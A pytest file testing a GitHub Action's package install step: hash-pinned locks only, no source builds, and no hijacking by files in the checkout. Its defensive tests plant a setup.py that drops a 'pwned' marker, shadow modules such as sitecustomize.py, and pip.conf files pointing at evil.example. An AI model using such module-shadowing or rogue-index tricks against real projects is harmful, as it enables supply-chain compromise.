"""What the action installs: what the lock names by its hash, from where it lies, and nothing else."""

import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from tests.action.runner import ACTION, ROOT, read_outputs

LOCK = ROOT / "action/requirements.txt"


def wheel(name: str, version: str, files: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    notes = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(packed, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        archive.writestr(
            f"{notes}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        )
        archive.writestr(
            f"{notes}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr(f"{notes}/RECORD", "")
    return packed.getvalue()


class Installing:
    """The step of the action, with a checkout of the action and an index of its own."""

    def __init__(self, top: Path) -> None:
        self.top = top
        self.index, self.temp, self.checkout = (
            top / name for name in ("index", "temp", "checkout")
        )
        self.action = top / "the action"
        for folder in (self.index, self.temp, self.checkout, self.action / "action"):
            folder.mkdir(parents=True)
        shutil.copy(ROOT / "action/install.py", self.action / "action")
        (self.action / "src").mkdir()
        (self.action / "src/of_the_action.py").touch()
        data = wheel("thing", "1.0", {"thing.py": ""})
        self.sha256 = self.serve("thing-1.0-py3-none-any.whl", data)

    def serve(self, name: str, data: bytes) -> str:
        """Put a file into the index; its hash."""
        (self.index / name).write_bytes(data)
        return hashlib.sha256(data).hexdigest()

    def run(self, lock: str, **env: str) -> subprocess.CompletedProcess[str]:
        (step,) = (s for s in ACTION["runs"]["steps"] if s["name"] == "Install postsync")
        (self.action / "action/requirements.txt").write_text(lock, "utf-8")
        outputs = self.top / "outputs"
        outputs.write_text("")
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=self.temp,
            env={
                "PATH": os.environ["PATH"],
                "HOME": str(self.checkout),
                "PYTHON": sys.executable,
                "PIP_CONFIG_FILE": step["env"]["PIP_CONFIG_FILE"],
                "PIP_NO_INDEX": "1",
                "PIP_FIND_LINKS": str(self.index),
                "GITHUB_ACTION_PATH": str(self.action),
                "GITHUB_WORKSPACE": str(self.checkout),
                "GITHUB_OUTPUT": str(outputs),
                "RUNNER_TEMP": str(self.temp),
                **env,
            },
            capture_output=True,
            text=True,
            check=False,
        )

    def python(self, code: str) -> str:
        """Run code with the Python that the next steps are told to take."""
        python = read_outputs((self.top / "outputs").read_text())["python"]
        assert python.startswith(str(self.temp))
        done = subprocess.run(
            [python, "-I", "-c", code], capture_output=True, text=True, check=True
        )
        return done.stdout.strip()


@pytest.fixture
def installing(tmp_path: Path) -> Installing:
    """A runner that has installed nothing yet."""
    return Installing(tmp_path)


def test_what_the_lock_names_is_there_and_postsync_is_used_where_it_lies(
    installing: Installing,
) -> None:
    lock = f"thing==1.0 --hash=sha256:{installing.sha256}\n"
    done = installing.run(lock)
    assert done.returncode == 0, done.stderr
    there = installing.python("import thing, of_the_action; print(of_the_action.__file__)")
    assert there == str(installing.action / "src/of_the_action.py")
    shutil.rmtree(installing.index)
    again = installing.run(lock)
    assert again.returncode == 0, "a second use in the same job finds it done"


@pytest.mark.parametrize(
    "lock",
    [
        f"thing==1.0 --hash=sha256:{64 * '0'}\n",
        "thing==1.0\n",
        "thing @ file://INDEX/thing-1.0-py3-none-any.whl\n",
    ],
)
def test_what_it_does_not_name_by_its_hash_is_refused(installing: Installing, lock: str) -> None:
    done = installing.run(lock.replace("INDEX", str(installing.index)))
    assert done.returncode != 0
    assert "::error title=postsync::" in done.stdout
    assert (installing.top / "outputs").read_text() == ""
    assert not [*installing.temp.glob("*/lib/python*/site-packages/thing.py")]


def test_nothing_is_built_out_of_a_source(installing: Installing) -> None:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in {
            "other-1.0/setup.py": f"open({str(installing.top / 'pwned')!r}, 'w')",
            "other-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: other\nVersion: 1.0\n",
        }.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    sha256 = installing.serve("other-1.0.tar.gz", packed.getvalue())
    assert installing.run(f"other==1.0 --hash=sha256:{sha256}\n").returncode != 0
    assert not (installing.top / "pwned").exists()


def test_a_branch_steers_neither_python_nor_pip(installing: Installing) -> None:
    shout = f"open({str(installing.top / 'pwned')!r}, 'w')\n"
    checkout = installing.checkout
    for name in ("pip.py", "sitecustomize.py", "usercustomize.py", "venv.py", "json.py"):
        (checkout / name).write_text(shout)
    for name in ("pip.conf", ".pip/pip.conf", ".config/pip/pip.conf", "setup.cfg"):
        path = checkout / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("[global]\nfind-links = https://evil.example/\n")
    done = installing.run(
        f"thing==1.0 --hash=sha256:{installing.sha256}\n", PYTHONPATH=str(checkout)
    )
    assert done.returncode == 0, done.stderr
    assert "evil" not in done.stdout + done.stderr
    assert not (installing.top / "pwned").exists()


def test_the_lock_has_a_hash_for_every_file() -> None:
    for line in LOCK.read_text("utf-8").splitlines():
        assert re.fullmatch(
            r"[a-z0-9-]+==[\w.]+( ; python_full_version [<>=]+ '[\d.]+')? \\"
            r"|    --hash=sha256:[0-9a-f]{64}( \\)?"
            r"|# .*|",
            line,
        ), line


def test_the_real_lock_installs_a_postsync_that_runs(tmp_path: Path) -> None:
    """The one test that asks a package index, as pip is set up here. Without one it is skipped."""
    (step,) = (s for s in ACTION["runs"]["steps"] if s["name"] == "Install postsync")
    outputs = tmp_path / "outputs"
    outputs.touch()
    env = {
        **os.environ,
        "PYTHON": sys.executable,
        "GITHUB_ACTION_PATH": str(ROOT),
        "GITHUB_OUTPUT": str(outputs),
        "RUNNER_TEMP": str(tmp_path),
    }
    done = subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=tmp_path, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    if re.search("No matching distribution|Could not find a version", done.stderr):
        pytest.skip("there is no package index")
    assert done.returncode == 0, done.stderr
    python = read_outputs(outputs.read_text())["python"]
    said = subprocess.run(
        [python, "-I", "-m", "postsync", "accounts"],
        cwd=tmp_path, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "postsync.yaml" in said.stderr
    assert "Traceback" not in said.stderr
    subprocess.run([python, "-I", "-c", "import PIL, obstore, httpx, action.github"], check=True)
